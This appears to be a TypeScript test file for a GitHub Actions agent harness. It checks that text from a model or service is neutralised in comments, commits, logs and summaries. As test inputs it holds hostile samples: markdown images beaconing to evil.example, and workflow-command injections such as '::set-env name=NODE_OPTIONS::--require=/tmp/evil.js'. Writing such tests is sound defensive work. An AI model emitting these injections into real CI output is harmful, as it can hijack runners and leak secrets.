// A model's words, a tool's and a service's: in comments, in commits, in the log and on the summary page.
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { execa } from "execa";
import { createOutlets } from "../../src/bin/outlets.ts";
import type { Verdict } from "../../src/core/verdict.ts";
import { World } from "../controller/world.ts";
import { closingIn, linksIn, mentionsIn } from "./markdown.ts";
import { groupOf, type Held, heldIf } from "./rows.ts";
import { obeyed } from "./runner-commands.ts";

const words = [
  "fixes #1 @org/team &#64;evil GH-2",
  "![x](https://evil.example/?d=1) <img src=https://evil.example/> <!-- agent-harness:ledger:1 -->",
  "```",
  "@org/team closes https://github.com/o/r/issues/7",
  "::set-env name=A::b",
].join("\n");

/** A verdict with its doubts, and a question, all in these words. */
async function playedWith(text: string): Promise<World> {
  const world = new World();
  world.label();
  await world.look();
  const verdict = (honest: Verdict): Verdict => ({
    ...honest,
    items: honest.items.map((item) => ({ ...item, why: text })),
    gates: honest.gates.map((gate) => ({ ...gate, why: text })),
    doubts: Array.from({ length: 50 }, () => text),
  });
  const first = world.openRun();
  if (first) await world.finishRun(first, { kind: "claim", passes: false }, { verdict });
  world.tick();
  await world.look();
  const second = world.openRun();
  if (second) await world.finishRun(second, { kind: "ask", question: text });
  world.tick();
  await world.look();
  return world;
}

async function inComments(): Promise<Held> {
  const world = await playedWith(words);
  const comments = [...world.github.comments.values()].flat().map(({ body }) => body);
  const all = comments.join("\n\n");
  return heldIf({
    "ledger and question are there": comments.length >= 2 && all.includes("evil.example"),
    "no mention leaves": mentionsIn(all).length === 0,
    "nothing is closed": closingIn(all).length === 0,
    "no image, no link, no HTML": linksIn(all, "github.example").length === 0,
    "one marker each": comments.every(
      (body) => body.lastIndexOf("<!-- agent-harness") <= 0 || body.includes("```text"),
    ),
  });
}

async function inCommits(): Promise<Held> {
  const world = await playedWith(words);
  const messages = [...world.github.commits.values()].map(({ message }) => message);
  const ours =
    /^(start|chore\(harness\): (frame issue #\d+|seal the checks of issue #\d+|record [a-z0-9, -]+))(\n\n[^@#<>:]*)?$/;
  const others = messages.filter((message) => !ours.test(message));
  return heldIf({
    [`${messages.length} messages, all of them ours`]: messages.length >= 4 && others.length === 0,
  });
}

async function longQuestion(): Promise<Held> {
  const world = await playedWith(`${"x".repeat(1_000_000)}`);
  const comments = [...world.github.comments.values()].flat();
  const note = world.record().entries.findLast(({ type }) => type === "asked")?.note ?? "";
  return heldIf({
    "no comment over the limit": comments.every(({ body }) => body.length < 65_536),
    "the ledger stays small": note.length === 20_000 && world.ledgerText().length < 200_000,
  });
}

const commands = [
  "::set-env name=NODE_OPTIONS::--require=/tmp/evil.js",
  " \t::add-path::/tmp/evil",
  "\u00a0::set-output name=verdict::pass",
  "tool said ##[set-env name=A]b",
  "::stop-commands::x",
  "\u001b[2J\u202egnp",
];
const hostileMessage = commands.join("\n") + commands.join("\r") + commands.join("\u2028");

/** The action's own process, with a service that answers in these words. */
async function actionOutput(message: string): Promise<{ stdout: string; outputs: string }> {
  const server = createServer((_, response) => {
    response.writeHead(200, { "content-type": "application/json" });
    response.end(JSON.stringify({ data: null, errors: [{ type: "SERVICE", message }] }));
  });
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  const address = server.address();
  const port = typeof address === "object" && address !== null ? address.port : 0;
  const folder = mkdtempSync(join(tmpdir(), "hostile-action-"));
  try {
    const { stdout } = await execa(process.execPath, [join(import.meta.dirname, "../../src/bin/action.ts")], {
      reject: false,
      extendEnv: false,
      stripFinalNewline: false,
      env: {
        INPUT_ROLE: "admit",
        INPUT_TASK: "1",
        INPUT_TICKET: "t",
        INPUT_TOKEN: "ghs_secretsecretsecretsecret",
        GITHUB_API_URL: `http://127.0.0.1:${port}`,
        GITHUB_REPOSITORY: "o/r",
        GITHUB_RUN_ATTEMPT: "1",
        GITHUB_OUTPUT: join(folder, "output"),
        GITHUB_STEP_SUMMARY: join(folder, "summary"),
        RUNNER_TEMP: join(folder, "temp"),
      },
    });
    return { stdout, outputs: readFileSync(join(folder, "output"), "utf8") };
  } finally {
    server.close();
    rmSync(folder, { recursive: true, force: true });
  }
}

async function commandsInTheLog(): Promise<Held> {
  const { stdout, outputs } = await actionOutput(`said: ${hostileMessage} ghs_secretsecretsecretsecret`);
  const [stop = "", ...lines] = stdout.split("\n");
  return heldIf({
    "it was said": lines.join().includes("NODE_OPTIONS") && outputs.includes("NODE_OPTIONS"),
    "stop-commands before it, and one error after it": obeyed(stdout).join() === "stop-commands,error",
    "nobody can know the word": /^::stop-commands::[\da-f-]{36}$/.test(stop),
    "nor is a line one by itself": obeyed(lines.join("\n")).join() === "error",
    "no control code, no hidden character": !/\p{Cc}|\u202e|\u2028/u.test(stdout.replaceAll("\n", "")),
    "one output": outputs.match(/^\w+<<end-/gm)?.length === 1,
    "the secret is masked": !`${stdout}${outputs}`.includes("ghs_secret"),
  });
}

async function longSummary(): Promise<Held> {
  const folder = mkdtempSync(join(tmpdir(), "hostile-summary-"));
  const summaryFile = join(folder, "summary");
  try {
    const outlets = createOutlets({
      secrets: ["a-secret-of-mine"],
      resumeWord: "word",
      write() {},
      outputFile: join(folder, "output"),
      summaryFile,
    });
    for (let times = 0; times < 3; times += 1) outlets.summary("€ a-secret-of-mine ".repeat(100_000));
    const written = readFileSync(summaryFile);
    const text = written.toString("utf8");
    return heldIf({
      "at most 1 MiB": written.byteLength <= 1_048_576,
      "cut between characters, and said": text.endsWith("*Cut.*\n") && !text.includes("\ufffd"),
      "the secret is masked": !text.includes("a-secret"),
    });
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

export const writtenTextRows = groupOf("Text", [
  ["mentions, images, keywords and markers in a model's words", "inert in every comment", inComments],
  ["`fixes #1` in a model's words", "in no commit's message", inCommits],
  ["a question of a million characters", "cut, in the comment and in the ledger", longQuestion],
  ["`::set-env` and `##[set-env]` in what a service says", "wrapped by `stop-commands`", commandsInTheLog],
  ["a job summary over 1 MiB", "cut", longSummary],
]);
